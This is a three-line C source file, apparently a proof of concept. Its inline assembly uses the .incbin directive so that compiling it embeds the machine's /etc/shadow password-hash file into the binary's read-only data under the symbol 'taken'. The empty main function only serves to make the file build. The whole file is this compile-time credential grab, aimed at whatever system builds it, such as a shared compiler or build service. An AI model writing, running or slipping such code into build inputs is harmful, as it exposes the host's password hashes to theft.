/* What the assembler may read, the program would carry out. */
__asm__(".section .rodata\n.global taken\ntaken: .incbin \"/etc/shadow\"\n");
int main(void) { return 0; }
